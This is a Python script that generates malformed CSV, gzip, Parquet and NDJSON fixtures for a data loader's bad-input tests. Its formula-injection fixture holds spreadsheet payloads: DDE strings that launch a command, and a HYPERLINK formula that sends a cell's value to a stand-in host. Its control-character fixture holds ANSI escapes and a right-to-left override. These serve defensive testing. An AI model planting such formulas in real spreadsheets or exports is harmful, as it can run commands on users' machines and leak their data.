"""Write the malformed-input corpus of tests/test_bad_inputs.py into this folder.

    .venv/bin/python tests/data/bad/make_bad.py

Every file starts from the same ten real records of the bundled sample (eight of
the UCI train split, two of the test split, ten different people) and carries one
defect, so a file's expected outcome in EXPECTED.toml can be worked out by hand
from its description. Random bytes come from a seeded generator: running the
script again gives the same CSV, gzip and NDJSON bytes (Parquet files embed the
polars version that wrote them).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
SAMPLE = HERE.parents[2] / "data" / "persona.csv.gz"
#: sources get the mtime 0 in their gzip header, so the bytes do not depend on the day
GZIP_MTIME = 0


def base_records() -> tuple[list[str], list[list[str]]]:
    """The sample's header and its first 8 train and first 2 test records."""
    with gzip.open(SAMPLE, "rt", encoding="utf-8", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        train, test = [], []
        for row in reader:
            side = train if row[-1] == "train" else test
            if len(side) < (8 if side is train else 2):
                side.append(row)
            if len(train) == 8 and len(test) == 2:
                break
    return header, train + test


HEADER, ROWS = base_records()
COL = {name: i for i, name in enumerate(HEADER)}


def csv_text(header: list[str], rows: list[list[str]], *, delimiter: str = ",",
             newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def with_values(changes: dict[int, dict[str, str]]) -> list[list[str]]:
    """The base rows with some cells replaced: {row index: {column: value}}."""
    rows = [list(r) for r in ROWS]
    for index, values in changes.items():
        for column, value in values.items():
            rows[index][COL[column]] = value
    return rows


def base_csv(**kwargs: str) -> str:
    return csv_text(HEADER, ROWS, **kwargs)


def gz(data: bytes) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=GZIP_MTIME) as fh:
        fh.write(data)
    return out.getvalue()


def parquet(frame: object) -> bytes:
    out = io.BytesIO()
    frame.write_parquet(out)  # type: ignore[attr-defined]
    return out.getvalue()


# ----------------------------------------------------------------------------- the files


def ragged_long_row() -> str:
    lines = base_csv().splitlines(keepends=True)
    lines[4] = lines[4].rstrip("\n") + ",surplus\n"  # data row 3 has one field too many
    return "".join(lines)


def ragged_short_row() -> str:
    lines = base_csv().splitlines(keepends=True)
    # Data row 3 stops after native_country: no income, collected_at, split.
    lines[4] = ",".join(next(csv.reader([lines[4]]))[: COL["income"]]) + "\n"
    return "".join(lines)


def blank_lines() -> str:
    lines = base_csv().splitlines(keepends=True)
    return "".join(lines[:4] + ["\n"] + lines[4:])  # one empty line after data row 2


def duplicate_column_names() -> str:
    header = HEADER + ["age"]  # a second, contradicting age column
    rows = [r + ["999"] for r in ROWS]
    return csv_text(header, rows)


def missing_required_column() -> str:
    keep = [i for i, name in enumerate(HEADER) if name != "income"]
    return csv_text([HEADER[i] for i in keep], [[r[i] for i in keep] for r in ROWS])


def header_with_spaces() -> str:
    return csv_text([f" {h}" if h == "age" else h for h in HEADER], ROWS)


def unterminated_quote() -> str:
    lines = base_csv().splitlines(keepends=True)
    lines[3] = lines[3].replace(",", ',"', 1)  # a quote opened in data row 2, never closed
    return "".join(lines)


def embedded_newlines() -> str:
    return csv_text(HEADER, with_values({0: {"name": "Ann\nLee"},
                                         1: {"name": 'Bob "the\r\nbuilder"'}}))


def long_strings() -> str:
    return csv_text(HEADER, with_values({
        0: {"name": "N" * 10_000},
        1: {"workclass": "W" * 10_000},
        2: {"email": "e" * 10_000 + "@example.com"},
        3: {"native_country": "\u00e9" * 10_000},
    }))


def huge_numbers() -> str:
    return csv_text(HEADER, with_values({
        0: {"age": "1e308"},
        1: {"age": "-1e308"},
        2: {"capital_gain": "9" * 400},  # overflows a double: infinite, so missing
        3: {"education_num": "123456789012345678901234567890"},
        4: {"hours_per_week": "1e400"},  # overflows too
        5: {"capital_loss": "-0"},
    }))


def nan_inf() -> str:
    return csv_text(HEADER, with_values({
        0: {"age": "NaN"},
        1: {"age": "nan"},
        2: {"capital_gain": "inf"},
        3: {"capital_gain": "-inf"},
        4: {"hours_per_week": "Infinity"},
        5: {"education_num": "-Infinity"},
    }))


def odd_number_formats() -> str:
    return csv_text(HEADER, with_values({
        0: {"age": "0x1F"},      # not a number here
        1: {"age": "1_000"},     # not a number here
        2: {"age": "3,5"},       # a decimal comma: not a number
        3: {"age": " 45 "},      # padded: 45
        4: {"age": "+39"},       # 39
        5: {"age": "4.5e1"},     # 45
    }))


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]


def formula_injection() -> str:
    return csv_text(HEADER, with_values({
        0: {"name": FORMULAS[0]},
        1: {"name": FORMULAS[4]},
        2: {"workclass": FORMULAS[1]},
        3: {"occupation": FORMULAS[2]},
        4: {"native_country": FORMULAS[3]},
        5: {"education": FORMULAS[5]},
        6: {"relationship": FORMULAS[6]},
    }))


def control_characters() -> str:
    return csv_text(HEADER, with_values({
        0: {"name": "\x1b[31mred\x1b[0m\x1b]0;title\x07"},  # ANSI colour and title escapes
        1: {"workclass": "Private\x00"},                      # NUL: not a known category
        2: {"sex": "Male\x0b"},                               # vertical tab: whitespace, trimmed
        3: {"race": "Wh\x08ite"},                             # a backspace inside
        4: {"email": "zwj\u200d" + ROWS[4][COL["email"]]},    # zero-width joiner: another person
        5: {"name": "\u202eevil\u202c"},                      # right-to-left override
    }))


def target_garbage() -> str:
    return csv_text(HEADER, with_values({
        0: {"income": ""},         # missing_target
        1: {"income": ">50K."},    # the UCI test file's spelling: unknown_target
        2: {"income": "yes"},      # unknown_target
        3: {"income": "  >50K "},  # padded: trimmed, fine
    }))


def missing_privacy_unit() -> str:
    return csv_text(HEADER, with_values({0: {"email": ""}, 1: {"email": "   "},
                                         2: {"email": "\t"}}))


def all_duplicates() -> str:
    return csv_text(HEADER, [ROWS[0]] * 10)


def same_person_twice() -> str:
    rows = [list(r) for r in ROWS]
    # Rows 8 and 9 are older records of the people in rows 0 and 1 (same email, other age).
    for index, source in ((8, 0), (9, 1)):
        rows[index] = list(ROWS[source])
        rows[index][COL["age"]] = "60"
        rows[index][COL["collected_at"]] = "2024-01-02T00:00:00Z"
    return csv_text(HEADER, rows)


def unknown_split() -> str:
    return csv_text(HEADER, with_values({0: {"split": "validation"}, 1: {"split": ""}}))


def bad_dates() -> str:
    return csv_text(HEADER, with_values({
        0: {"collected_at": "2025-02-30T00:00:00Z"},
        1: {"collected_at": "9999-12-31T23:59:59Z"},
        2: {"collected_at": "yesterday"},
        3: {"collected_at": ""},
        4: {"collected_at": "0001-01-01"},
    }))


def latin1() -> bytes:
    return base_csv().encode("latin-1", errors="replace")


def utf8_bom() -> bytes:
    return b"\xef\xbb\xbf" + base_csv().encode("utf-8")


def utf16_bom() -> bytes:
    return base_csv().encode("utf-16")


def binary_garbage() -> bytes:
    return random.Random(1).randbytes(4096)


def concatenated_gzip_members() -> bytes:
    text = base_csv().encode("utf-8")
    middle = text.index(b"\n", len(text) // 2) + 1
    return gz(text[:middle]) + gz(text[middle:])  # what `cat a.gz b.gz` makes: valid gzip


def truncated_gzip() -> bytes:
    whole = gz(base_csv().encode("utf-8"))
    return whole[: len(whole) // 2]


def html_error_page() -> str:
    return ("<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head>\n"
            "<body><h1>Not Found</h1><p>The export you asked for does not exist.</p></body>"
            "</html>\n")


def frame() -> object:
    import polars as pl

    return pl.DataFrame([pl.Series(name, [r[i] for r in ROWS], dtype=pl.String)
                         for i, name in enumerate(HEADER)])


def wrong_schema_parquet() -> bytes:
    import polars as pl

    return parquet(pl.DataFrame({"id": list(range(10)), "value": [0.5] * 10}))


def nested_types_parquet() -> bytes:
    import polars as pl

    data = frame()
    return parquet(data.with_columns(  # type: ignore[attr-defined]
        pl.col("age").cast(pl.Int64).map_elements(lambda v: [v, v], return_dtype=pl.List(pl.Int64)),
        pl.struct(pl.col("workclass"), pl.col("sex")).alias("workclass"),
    ))


def native_types_parquet() -> bytes:
    import polars as pl

    data = frame()
    nan_inf_gain = [float("nan"), float("inf")] + [0.0] * 8
    return parquet(data.with_columns(  # type: ignore[attr-defined]
        pl.col("age").cast(pl.Int64),
        pl.Series("capital_gain", nan_inf_gain, dtype=pl.Float64),
        pl.col("collected_at").str.to_datetime("%Y-%m-%dT%H:%M:%SZ", time_zone="UTC"),
        pl.col("sex").cast(pl.Categorical),
    ))


def truncated_parquet() -> bytes:
    whole = parquet(frame())
    return whole[: len(whole) // 2]


def records_json() -> list[dict[str, str]]:
    return [dict(zip(HEADER, r, strict=True)) for r in ROWS]


def malformed_ndjson() -> str:
    lines = [json.dumps(r) for r in records_json()]
    lines[3] = lines[3][:-20]  # a line cut mid-object
    return "\n".join(lines) + "\n"


def json_array_ndjson() -> str:
    return json.dumps(records_json(), indent=1) + "\n"  # a JSON document, not one object a line


def nested_ndjson() -> str:
    records = records_json()
    lines = []
    for i, r in enumerate(records):
        value: object = r
        if i == 2:
            value = {**r, "age": {"years": 39, "months": 4}}
        lines.append(json.dumps(value))
    return "\n".join(lines) + "\n"


def object_column_ndjson() -> str:
    # Every age is an object: the column itself is nested, not one odd value.
    records = [{**r, "age": {"years": int(r["age"])}} for r in records_json()]
    return "\n".join(json.dumps(r) for r in records) + "\n"


FILES: dict[str, Callable[[], str | bytes]] = {
    "empty.csv": lambda: b"",
    "empty.csv.gz": lambda: gz(b""),
    "header_only.csv": lambda: ",".join(HEADER) + "\n",
    "whitespace_only.csv": lambda: "\n  \n\t\n",
    "semicolon_delimiter.csv": lambda: base_csv(delimiter=";"),
    "tab_delimiter.csv": lambda: base_csv(delimiter="\t"),
    "pipe_delimiter.csv": lambda: base_csv(delimiter="|"),
    "ragged_long_row.csv": ragged_long_row,
    "ragged_short_row.csv": ragged_short_row,
    "unterminated_quote.csv": unterminated_quote,
    "binary_garbage.csv": binary_garbage,
    "nul_bytes.csv": lambda: b"\x00" * 4096,
    "latin1.csv": latin1,
    "utf8_bom.csv": utf8_bom,
    "utf16_bom.csv": utf16_bom,
    "crlf_line_endings.csv": lambda: base_csv(newline="\r\n"),
    "cr_line_endings.csv": lambda: base_csv(newline="\r"),
    "blank_lines.csv": blank_lines,
    "duplicate_column_names.csv": duplicate_column_names,
    "missing_required_column.csv": missing_required_column,
    "header_with_spaces.csv": header_with_spaces,
    "html_error_page.csv": html_error_page,
    "embedded_newlines.csv": embedded_newlines,
    "long_strings.csv": long_strings,
    "huge_numbers.csv": huge_numbers,
    "nan_inf.csv": nan_inf,
    "odd_number_formats.csv": odd_number_formats,
    "formula_injection.csv": formula_injection,
    "control_characters.csv": control_characters,
    "target_garbage.csv": target_garbage,
    "missing_privacy_unit.csv": missing_privacy_unit,
    "all_duplicates.csv": all_duplicates,
    "same_person_twice.csv": same_person_twice,
    "unknown_split.csv": unknown_split,
    "bad_dates.csv": bad_dates,
    "truncated.csv.gz": truncated_gzip,
    "gzip_of_garbage.csv.gz": lambda: gz(random.Random(2).randbytes(4096)),
    "plain_text_named.csv.gz": lambda: base_csv(),
    "concatenated_members.csv.gz": concatenated_gzip_members,
    "wrong_schema.parquet": wrong_schema_parquet,
    "nested_types.parquet": nested_types_parquet,
    "native_types.parquet": native_types_parquet,
    "truncated.parquet": truncated_parquet,
    "garbage.parquet": lambda: b"PAR1" + random.Random(3).randbytes(2048) + b"PAR1",
    "malformed.ndjson": malformed_ndjson,
    "json_array.ndjson": json_array_ndjson,
    "nested_values.ndjson": nested_ndjson,
    "object_column.ndjson": object_column_ndjson,
    "spreadsheet.xlsx": lambda: b"PK\x03\x04" + random.Random(4).randbytes(512),
}


def main() -> None:
    for name, make in FILES.items():
        content = make()
        data = content.encode("utf-8") if isinstance(content, str) else content
        (HERE / name).write_bytes(data)
    print(f"wrote {len(FILES)} files to {HERE}")


if __name__ == "__main__":
    main()
